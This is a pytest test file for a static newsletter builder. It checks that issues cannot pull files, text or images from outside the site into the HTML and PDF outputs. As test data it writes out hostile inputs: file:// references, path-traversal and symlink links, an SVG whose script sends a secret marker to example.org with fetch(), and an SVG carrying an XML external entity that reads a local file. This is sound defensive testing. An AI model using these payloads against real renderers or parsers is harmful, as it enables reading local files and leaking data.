"""An issue that tries every way out of the site: nothing from outside reaches the PDF (its
text, images or embedded files, read with pikepdf) or the HTML page."""

from __future__ import annotations

import os
import struct
import zlib
from pathlib import Path

import pikepdf
import pytest

from conftest import ISSUE_HEAD, write_issue

MARKER = "SECRET-7f3a-not-for-publishing"


def secret_png() -> bytes:
    """A 3 x 3 PNG, a size no image of the site has, carrying the marker in a text chunk."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    rows = b"".join(b"\x00" + b"\x7f" * 3 for _ in range(3))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 3, 3, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\x00" + MARKER.encode())
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the site holding files it must never use."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.png").write_bytes(secret_png())
    (folder / "secret.txt").write_text(MARKER + "\n")
    (folder / "secret.css").write_text(f'body::before {{ content: "{MARKER}"; }}\n')
    return folder


def refused_references(site: Path, outside: Path) -> list[str]:
    """References the build must refuse outright, each naming the issue."""
    os.symlink(outside / "secret.png", site / "issues/bulletin/linked.png")
    climb = os.path.relpath(outside / "secret.png", site / "output/bulletin")
    return [
        f"![Secret](file://{outside}/secret.png)",
        f"![Secret]({climb})",
        "![Secret](linked.png)",
        "![Secret](https://example.org/secret.png)",
        f'<p><link rel="attachment" href="file://{outside}/secret.txt"></p>',
        '<p><a rel="attachment" href="linked.png">the picture</a></p>',
    ]


def test_each_way_out_of_the_site_is_refused_and_nothing_is_written(site, run, outside):
    for reference in refused_references(site, outside):
        write_issue(site, "2024-03-issue-7.md", ISSUE_HEAD + f"\n{reference}\n")
        result = run("build", cwd=site)
        assert result.exit_code == 1, reference
        assert result.stderr.startswith("issues/bulletin/2024-03-issue-7.md"), result.stderr
        assert "Traceback" not in result.output
        assert not (site / "output").exists(), reference


def test_ways_out_hidden_in_html_are_removed_and_the_outputs_hold_nothing_from_outside(
        site, run, outside):
    secret = f"file://{outside}"
    write_issue(site, "2024-03-issue-7.md", ISSUE_HEAD + f"""
# Ways out

<div style="background: url({secret}/secret.png)">A styled box.</div>

<style>@import url({secret}/secret.css); body {{ background: url({secret}/secret.png) }}</style>

<iframe src="{secret}/secret.txt"></iframe>

<object data="{secret}/secret.txt"></object>

<embed src="{secret}/secret.png">

<svg><image href="{secret}/secret.png" width="30" height="30"/></svg>

<img src="{secret}/secret.png" srcset="{secret}/secret.png 2x" alt="A secret">

<p><a href="{secret}/secret.txt">a link to a file</a></p>

The text of the issue.
""")
    result = run("build", cwd=site)
    # The <img> itself is refused (a page may use only the site's files); the rest is removed.
    assert result.exit_code == 1
    assert "secret.png is outside the site" in result.stderr
    issue = site / "issues/bulletin/2024-03-issue-7.md"
    issue.write_text(issue.read_text().replace(
        f'<img src="{secret}/secret.png" srcset="{secret}/secret.png 2x" alt="A secret">', ""))
    result = run("build", cwd=site)
    assert result.exit_code == 0, result.output
    page = (site / "output/bulletin/2024-03-issue-7.html").read_text()
    assert str(outside) not in page and MARKER not in page
    assert "The text of the issue." in page
    with pikepdf.open(site / "output/bulletin/2024-03-issue-7.pdf") as pdf:
        assert "/EmbeddedFiles" not in pdf.Root.get("/Names", {})
        assert not pdf.attachments
        for page_object in pdf.pages:
            for annotation in page_object.get("/Annots", []):
                assert annotation.Subtype != "/FileAttachment"
                uri = str(annotation.get("/A", {}).get("/URI", ""))
                assert not uri.startswith("file:"), uri
            for image in page_object.get_images().values():
                assert (image.Width, image.Height) != (3, 3), "the secret image was drawn"
    text = _pdf_text(site / "output/bulletin/2024-03-issue-7.pdf")
    assert MARKER not in text and str(outside) not in text
    assert "The text of the issue." in " ".join(text.split())


def _pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


@pytest.mark.parametrize("source, linked", [
    ("issues/bulletin/2024-06-issue-8.md", "secret.md"),
    ("blocks/quote/secret.yml", "secret.yml"),
    ("templates/newsletter/issue.html", "secret.html"),
    ("issues/bulletin/series.yml", "secret.yml"),
])
def test_a_source_linked_from_outside_the_site_is_refused_unread(site, run, outside, source,
                                                                 linked):
    """Issues, blocks, templates and settings are read only from inside the site: a
    symbolic link to a file elsewhere is an error naming it, and its text is never used."""
    (outside / linked).write_text(MARKER + "\n")
    target = site / source
    target.unlink(missing_ok=True)
    target.symlink_to(outside / linked)
    for command in ("build", "check"):
        result = run(command, cwd=site)
        assert result.exit_code == 1, result.output
        assert (f"{source}: leads outside the site, to {outside / linked}, through a symbolic "
                "link") in result.output.replace(f"{source}:1:1: error:", f"{source}:")
        assert MARKER not in result.output
    assert not (site / "output").exists()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">\n{}\n</svg>\n'
SCRIPTED = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="go()">\n'
            f'<script>fetch("https://example.org/?{MARKER}")</script>\n'
            '<rect width="9" height="9"/>\n</svg>\n')


def svg_ways_out(site: Path, outside: Path) -> list[str]:
    """Issues' references to SVG pictures that script, or reach out of the site: each must be
    refused, naming the issue."""
    folder = site / "issues/bulletin"
    climb = os.path.relpath(outside / "secret.png", folder)
    os.symlink(outside / "secret.png", folder / "linked.png")
    pictures = {
        "scripted.svg": SCRIPTED,
        "disguised.png": SCRIPTED,  # an SVG by its content, under a PNG's name
        "outer.svg": SVG.format('<image href="scripted.svg" width="9" height="9"/>'),
        "file.svg": SVG.format(f'<image href="file://{outside}/secret.png"/>'),
        "climbing.svg": SVG.format(f'<image href="{climb}"/>'),
        "linking.svg": SVG.format('<image href="linked.png"/>'),
        "styled.svg": SVG.format(f"<style>@import url(file://{outside}/secret.css);</style>"),
        "entity.svg": (f'<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://{outside}/secret.txt">]>'
                       + SVG.format("<text>&secret;</text>")),
    }
    for name, text in pictures.items():
        (folder / name).write_text(text)
    return [*(f"![A chart]({name})" for name in pictures),
            '<p><img src="scripted.svg" alt="A chart"></p>',
            '<p><img src="outer.svg" alt="A chart"></p>']


def test_an_svg_that_scripts_or_reaches_out_never_reaches_the_output(site, run, outside):
    for reference in svg_ways_out(site, outside):
        write_issue(site, "2024-03-issue-7.md", ISSUE_HEAD + f"\n{reference}\n")
        result = run("build", cwd=site)
        assert result.exit_code == 1, reference
        assert result.stderr.startswith("issues/bulletin/2024-03-issue-7.md"), result.stderr
        assert "Traceback" not in result.output and "warning" not in result.stderr
        assert not (site / "output").exists(), reference


def test_a_plain_svg_is_copied_as_it_is_and_nothing_else_scripts(site, run, outside):
    svg_ways_out(site, outside)  # the hostile pictures lie beside it, unused
    plain = SVG.format('<rect width="9" height="9" fill="#14506e"/>')
    (site / "issues/bulletin/plain.svg").write_text(plain)
    write_issue(site, "2024-03-issue-7.md", ISSUE_HEAD + "\n![A plain chart](plain.svg)\n")
    result = run("build", cwd=site)
    assert result.exit_code == 0, result.output
    assert (site / "output/bulletin/plain.svg").read_text() == plain
    for path in (site / "output").rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            if path.name == "search.html":  # the archive's own search, and nothing else
                data = data.replace(b'<script type="module" src="assets/search.js"></script>', b"")
            assert b"<script" not in data and b"onload" not in data, path
            assert MARKER.encode() not in data and str(outside).encode() not in data, path
